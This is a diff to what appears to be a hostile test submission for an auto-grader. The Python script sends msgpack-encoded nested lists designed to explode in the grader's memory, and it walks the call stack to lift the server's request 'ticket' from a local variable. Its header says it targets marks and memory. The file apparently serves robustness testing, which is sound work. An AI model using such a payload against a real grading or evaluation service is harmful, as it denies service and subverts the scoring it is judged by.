@@ -1,8 +1,11 @@
-# tries: to blow three megabytes up to many times their size in the grader's memory
+# tries: to blow a megabyte, and then three, up to many times their size in the grader's memory
 # points: 0
 # harm: marks, memory
 import os
 import stat
+import sys
+
+import msgspec
 
 
 def connection():
@@ -14,12 +17,26 @@ def connection():
             pass
 
 
-def frame(data):
-    return len(data).to_bytes(4, "big") + data
+def ticket():
+    """Of the request that is being answered: the server keeps it in a variable."""
+    caller = sys._getframe()
+    while caller:
+        if "ticket" in caller.f_locals:
+            return caller.f_locals["ticket"]
+        caller = caller.f_back
+    return bytes(4)
 
-COUNT = 5 * 10**5
-BOMB = b"\x93\xa5tuple\xa5value\xdd" + (COUNT + 1).to_bytes(4, "big") + b"\xa4list" + b"\x91\xa4list" * COUNT
 
-whole = memoryview(frame(BOMB))
-while whole:
-    whole = whole[os.write(connection(), whole) :]
+def message(tree, raw=b""):
+    structure = msgspec.msgpack.encode(tree)
+    return len(structure).to_bytes(4, "big") + structure + raw
+
+
+def send(data, size=None):
+    whole = memoryview(ticket() + (size or len(data)).to_bytes(4, "big") + data)
+    while whole:
+        whole = whole[os.write(connection(), whole) :]
+
+
+send(message(["tuple", ["value", ["list", [["list", []]] * 150000]]]))
+send(message(["tuple", ["value", ["list", [["list", []]] * 500000]]]))
